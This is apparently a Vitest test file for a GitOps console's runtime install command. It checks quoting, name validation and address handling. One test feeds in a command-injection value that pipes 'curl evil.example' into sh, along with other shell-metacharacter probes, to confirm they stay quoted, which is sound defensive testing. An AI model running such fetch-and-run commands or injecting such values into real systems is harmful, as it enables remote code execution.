import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';

import { addressFor, installCommand, isRuntimeName, shellWord, TOKEN_COMMAND } from '../../../apps/control-plane/console/src/pages/runtimes/install';

const quickstart = readFileSync(new URL('../../../docs/get-started/quickstart.md', import.meta.url), 'utf8');

describe('the commands that add a runtime', () => {
  it('are those of the quickstart', () => {
    for (const command of [TOKEN_COMMAND, installCommand('http://localhost:8080')]) expect(quickstart).toContain(`\`\`\`sh\n${command}\n\`\`\``);
  });
  it('are never more than one command, whatever the address of the page calls the runtime', () => {
    expect(installCommand('https://x.example', 'a; curl evil.example | sh')).toContain(`--set global.runtime.name='a; curl evil.example | sh' \\\n`);
    expect(['argocd', "it's", '$(x)', ''].map(shellWord)).toEqual(['argocd', `'it'\\''s'`, "'$(x)'", "''"]);
    expect(['prod', 'prod-eu-1', 'p', 'a'.repeat(38)].every(isRuntimeName)).toBe(true);
    expect(['', 'Prod', '-a', 'a-', 'a b', 'a;b', 'a\nb', '9prod', 'a'.repeat(39)].some(isRuntimeName)).toBe(false);
  });
  it('have the address of the page', () => {
    expect(addressFor('https://gitops.example.com')).toBe('https://gitops.example.com');
    expect(addressFor('http://10.0.0.1:8080')).toBe('http://10.0.0.1:8080');
    expect(addressFor('https://localhost.example.com')).toBe('https://localhost.example.com');
  });
  it.each(['http://localhost:8080', 'http://127.0.0.1:31234', 'https://[::1]:8443', 'http://localhost'])('leave out %s, which pods do not reach', (origin) => {
    expect(addressFor(origin)).toBe('http://control-plane.gitops-control-plane');
  });
});
